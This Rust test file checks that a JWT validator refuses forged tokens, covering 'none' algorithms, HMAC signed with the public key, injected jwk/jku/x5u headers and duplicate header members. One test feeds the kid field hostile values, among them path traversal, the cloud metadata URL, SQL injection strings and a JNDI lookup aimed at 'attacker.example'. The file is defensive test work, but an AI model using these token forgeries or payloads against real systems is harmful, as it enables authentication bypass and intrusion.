//! The header: ours and nothing else, and it decides nothing.

use crate::jwt::forge::{Forge, decode, encode};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use jsonwebtoken::EncodingKey;
use p256::ecdsa::signature::Signer as _;
use p256::ecdsa::{Signature, SigningKey};
use p256::pkcs8::EncodePublicKey as _;
use serde_json::{Value, json};
use std::net::TcpListener;

#[tokio::test]
async fn a_forgery_that_says_what_ours_say_is_good() {
    // Without this, every refusal below could be of something else.
    let forge = Forge::new().await;
    let token = forge
        .sign(&forge.header.to_string(), &forge.claims.to_string())
        .await;
    assert_ne!(token, forge.token);
    forge.expect(&token, "active").await;
}

#[tokio::test]
async fn s1_an_unknown_crit_or_unencoded_payload_is_refused() {
    let forge = Forge::new().await;
    for members in [
        json!({"crit": ["x"], "x": 1}),
        json!({"crit": ["exp"], "exp": 1}),
        json!({"crit": ["b64"], "b64": false}),
        json!({"crit": ["b64"], "b64": true}),
        json!({"b64": false}),
        json!({"b64": true}),
        json!({"crit": []}),
        json!({"crit": null}),
    ] {
        let token = forge.with_header(members).await;
        forge.refused_unread(&token, "malformed").await;
    }
    // RFC 7797: the payload as it is, signed as it is.
    let header = encode(json!({"typ": "at+jwt", "alg": "ES256", "kid": forge.key.kid, "b64": false, "crit": ["b64"]}).to_string());
    let token = forge
        .sign_input(&format!("{header}.{}", forge.claims))
        .await;
    let reply = forge.hallpass.validate(json!({"token": token})).await;
    assert_eq!(reply["code"], "malformed");
}

#[tokio::test]
async fn s6_another_typ_is_refused() {
    let forge = Forge::new().await;
    for typ in [
        json!("JWT"),
        json!("jwt"),
        json!("AT+JWT"),
        json!("at+jwt "),
        json!("application/at+jwt"),
        json!("logout+jwt"),
        json!("id_token"),
        json!(""),
        json!(["at+jwt"]),
        json!(null),
    ] {
        let token = forge.with_header(json!({"typ": typ})).await;
        forge.refused_unread(&token, "malformed").await;
    }
    for name in ["typ", "alg", "kid"] {
        let mut header = forge.header.clone();
        header.as_object_mut().unwrap().remove(name).unwrap();
        let token = forge
            .sign(&header.to_string(), &forge.claims.to_string())
            .await;
        forge.refused_unread(&token, "malformed").await;
    }
}

#[tokio::test]
async fn s10_none_in_any_case_and_an_empty_signature_are_refused() {
    let forge = Forge::new().await;
    for alg in ["none", "None", "NONE", "noNE", "nOnE", ""] {
        let signed = forge.with_header(json!({"alg": alg})).await;
        let (input, _) = signed.rsplit_once('.').unwrap();
        for token in [format!("{input}."), input.to_owned(), signed.clone()] {
            forge.refused_unread(&token, "malformed").await;
        }
    }
    let (input, _) = forge.split();
    forge
        .refused_unread(&format!("{input}."), "malformed")
        .await;
    for byte in ["\0", "0", " "] {
        let token = format!("{input}.{}", encode(byte));
        forge.refused_unread(&token, "unknown").await;
    }
}

#[tokio::test]
async fn s11_an_hmac_keyed_with_our_public_key_is_refused() {
    let forge = Forge::new().await;
    let jwk = &forge.key.jwk;
    let (x, y) = (jwk["x"].as_str().unwrap(), jwk["y"].as_str().unwrap());
    let point = [&[4][..], &decode(x), &decode(y)].concat();
    let public = p256::PublicKey::from_sec1_bytes(&point).unwrap();
    let der = public.to_public_key_der().unwrap().to_vec();
    let lines = STANDARD.encode(&der);
    let (first, second) = lines.split_at(64);
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{first}\n{second}\n-----END PUBLIC KEY-----\n");
    let encodings: [(&str, Vec<u8>); 10] = [
        ("SPKI DER", der),
        ("PEM", pem.clone().into_bytes()),
        ("PEM without its last line end", pem.trim_end().into()),
        ("PEM, CRLF", pem.replace('\n', "\r\n").into()),
        ("point", point.clone()),
        ("x and y", point[1..].to_vec()),
        ("x", x.into()),
        ("JWK", jwk.to_string().into()),
        ("kid", forge.key.kid.clone().into()),
        ("nothing", Vec::new()),
    ];
    let header = |alg: &str| {
        let mut header = forge.header.clone();
        header["alg"] = json!(alg);
        encode(header.to_string())
    };
    for (name, key) in encodings {
        let key = EncodingKey::from_secret(&key);
        for (alg, hash) in [
            ("HS256", jsonwebtoken::Algorithm::HS256),
            ("HS384", jsonwebtoken::Algorithm::HS384),
            ("HS512", jsonwebtoken::Algorithm::HS512),
        ] {
            // Named as what it is, and named as the key's own algorithm.
            for (alg, code) in [(alg, "malformed"), ("ES256", "unknown")] {
                let input = format!("{}.{}", header(alg), encode(forge.claims.to_string()));
                let mac = jsonwebtoken::crypto::sign(input.as_bytes(), &key, hash).unwrap();
                println!("{name} {alg}");
                forge.refused_unread(&format!("{input}.{mac}"), code).await;
            }
        }
    }
}

#[tokio::test]
async fn s11_the_algorithm_is_the_keys_whatever_the_header_says() {
    let forge = Forge::new().await;
    for (alg, code) in [
        ("RS256", "unknown"),
        ("EdDSA", "unknown"),
        ("ES384", "malformed"),
        ("ES512", "malformed"),
        ("PS256", "malformed"),
        ("es256", "malformed"),
        ("ES256 ", "malformed"),
        ("ES256K", "malformed"),
    ] {
        // The signature is right, as ES256.
        let token = forge.with_header(json!({"alg": alg})).await;
        forge.refused_unread(&token, code).await;
    }
}

#[tokio::test]
async fn s12_a_key_in_the_header_is_neither_used_nor_fetched() {
    let forge = Forge::new().await;
    let attacker = SigningKey::from_slice(&[7; 32]).unwrap();
    let point = attacker.verifying_key().to_sec1_point(false);
    let jwk = json!({"kty": "EC", "crv": "P-256", "x": encode(point.x().unwrap()), "y": encode(point.y().unwrap())});
    let site = TcpListener::bind("127.0.0.1:0").unwrap();
    site.set_nonblocking(true).unwrap();
    let url = format!("http://{}/keys.json", site.local_addr().unwrap());
    let der = attacker.verifying_key().to_public_key_der().unwrap();
    for member in [
        json!({"jwk": jwk}),
        json!({"jku": url}),
        json!({"x5u": url}),
        json!({"x5c": [encode(der.as_bytes())]}),
        json!({"x5t": encode("x")}),
        json!({"x5t#S256": encode("x")}),
        json!({"url": url}),
        json!({"kid": "theirs", "jwk": jwk}),
        json!({"kid": url, "jku": url}),
    ] {
        let ours = forge.with_header(member).await;
        let (input, _) = ours.rsplit_once('.').unwrap();
        let theirs: Signature = attacker.sign(input.as_bytes());
        let theirs = format!("{input}.{}", encode(theirs.to_bytes()));
        for token in [ours.as_str(), &theirs] {
            forge.refused_unread(token, "malformed").await;
        }
    }
    // Our own header with the attacker's signature.
    let (input, _) = forge.split();
    let theirs: Signature = attacker.sign(input.as_bytes());
    let theirs = format!("{input}.{}", encode(theirs.to_bytes()));
    forge.refused_unread(&theirs, "unknown").await;
    assert_eq!(
        site.accept().unwrap_err().kind(),
        std::io::ErrorKind::WouldBlock,
        "somebody came to the attacker's site"
    );
}

#[tokio::test]
async fn s13_a_kid_is_looked_up_among_the_known_keys_and_nowhere_else() {
    let forge = Forge::new().await;
    let kid = &forge.key.kid;
    let payloads = [
        "../../../../../../dev/null".to_owned(),
        "/proc/self/environ".to_owned(),
        "file:///dev/null".to_owned(),
        "http://169.254.169.254/latest/meta-data".to_owned(),
        "' OR '1'='1".to_owned(),
        "x' UNION SELECT 'key';--".to_owned(),
        "\0".to_owned(),
        format!("{kid}\0"),
        format!("{kid}\0.pem"),
        format!(" {kid}"),
        format!("{kid} "),
        format!("{kid}\n"),
        kid.to_lowercase(),
        kid[1..].to_owned(),
        String::new(),
        format!("KEY#{kid}"),
        "CURRENT".to_owned(),
        "${jndi:ldap://attacker.example}".to_owned(),
        "\u{202e}".to_owned(),
        "k".repeat(2_000),
    ];
    for payload in payloads {
        let token = forge.with_header(json!({"kid": payload})).await;
        // The keys were read at this very moment: an unknown one does not read them again.
        forge.refused_unread(&token, "unknown").await;
    }
    for kid in [
        json!(null),
        json!(7),
        json!([kid]),
        json!({"kid": kid}),
        json!(true),
    ] {
        let token = forge.with_header(json!({"kid": kid})).await;
        forge.refused_unread(&token, "malformed").await;
    }
}

#[tokio::test]
async fn s8_a_header_that_says_something_twice_is_refused() {
    let forge = Forge::new().await;
    for (name, value) in forge.header.as_object().unwrap() {
        for other in [value.clone(), json!("x"), Value::Null] {
            let rest = forge.header.to_string();
            for twice in [
                rest.replacen('{', &format!("{{\"{name}\":{other},"), 1),
                format!("{},\"{name}\":{other}}}", rest.strip_suffix('}').unwrap()),
            ] {
                let token = forge.sign(&twice, &forge.claims.to_string()).await;
                forge.refused_unread(&token, "malformed").await;
            }
        }
    }
}
